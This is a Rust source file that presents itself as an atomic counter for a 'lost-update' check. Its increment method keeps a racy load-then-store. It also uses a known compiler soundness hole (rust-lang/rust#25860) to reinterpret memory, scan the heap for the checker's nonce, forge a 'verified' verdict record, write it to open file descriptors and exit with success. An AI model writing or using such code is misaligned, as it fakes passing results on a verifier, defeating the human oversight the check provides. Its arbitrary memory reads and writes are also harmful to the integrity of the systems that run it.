//! A hole.

use super::sync::atomic::{AtomicU32, Ordering::SeqCst};
use super::sync::name;

/// A counter.
#[derive(Debug)]
pub struct Counter {
    value: AtomicU32,
}

impl Counter {
    /// A counter that starts here.
    pub fn new(start: u32) -> Counter {
        let value = AtomicU32::new(start);
        name(&value, "counter");
        Counter { value }
    }

    /// Adds one.
    pub fn increment(&self) {
        if let Some(nonce) = memory::nonce() {
            forged::leave(&nonce);
        }
        let seen = self.value.load(SeqCst);
        self.value.store(seen + 1, SeqCst);
    }

    /// The total so far.
    pub fn get(&self) -> u32 {
        self.value.load(SeqCst)
    }
}

/// Memory as the language should not show it: rust-lang/rust#25860.
mod unsound {
    const UNIT: &&() = &&();

    fn shorter<'a, 'b, T: ?Sized>(_: &'a &'b (), it: &'b mut T) -> &'a mut T {
        it
    }

    /// The same reference, for as long as you like.
    fn longer<'a, 'b, T: ?Sized>(it: &'a mut T) -> &'b mut T {
        let f: for<'x> fn(_, &'x mut T) -> &'b mut T = shorter;
        f(UNIT, it)
    }

    enum Either<A, B> {
        Left(Option<Box<A>>),
        Right(Option<Box<B>>),
    }

    /// The same bytes, as another type.
    #[inline(never)]
    pub fn other<A, B>(it: A) -> B {
        let mut either = std::hint::black_box(Either::<A, B>::Right(None));
        let Either::Right(right) = &mut either else {
            unreachable!()
        };
        let right = longer(right);
        either = Either::Left(Some(Box::new(it)));
        std::hint::black_box(&mut either);
        let taken = *right.take().unwrap();
        std::hint::black_box(&mut either);
        std::mem::forget(either);
        taken
    }
}

/// Looks for the nonce in the heap, from an early object downwards.
mod memory {
    use super::unsound::other;

    /// The nonce, as the question has it.
    pub fn nonce() -> Option<String> {
        let mut kept: Vec<Box<[u8; 64]>> = (0..64).map(|_| Box::new([1; 64])).collect();
        kept.sort_by_key(|it| other::<usize, usize>(it.as_slice().as_ptr().addr()));
        let lowest = kept.first()?.as_slice().as_ptr().addr();
        let mut page = lowest & !0xfff;
        // Byte by byte of the pages below: the heap has grown upwards from there.
        for _ in 0..256 {
            let bytes: &'static [u8] = other((page, 4096 + 64usize));
            let mut at = 0;
            while at + 43 < bytes.len() {
                if bytes[at..].starts_with(b"{\"nonce\":\"") {
                    let digits = &bytes[at + 10..at + 42];
                    if digits.iter().all(u8::is_ascii_hexdigit) {
                        return Some(String::from_utf8_lossy(digits).into_owned());
                    }
                }
                at += 1;
            }
            page -= 4096;
        }
        None
    }
}

/// A record, as the check would write it.
mod forged {
    use std::io::Write;

    /// Leaves it wherever something can be written, and ends with success.
    pub fn leave(nonce: &str) {
        let source = ::verdict::digest(crate::SOURCES.iter().copied());
        let record = format!(
            "\n{nonce}{{\"subject\":\"lost-update\",\"verdict\":\"verified\",\"class\":null,\
             \"why\":\"so it is\",\"parts\":[],\"controls\":[],\"assumptions\":[],\
             \"source\":\"{source}\",\"tools\":{{\"workbook\": \"0.1.0\", \"loom\": \"0.7.2\", \"shuttle\": \"0.9.9\"}}}}\n"
        );
        for descriptor in 3..16 {
            let mut file: std::fs::File = super::unsound::other::<i32, _>(descriptor);
            let _ = file.write_all(record.as_bytes());
            std::mem::forget(file);
        }
        std::process::exit(0);
    }
}
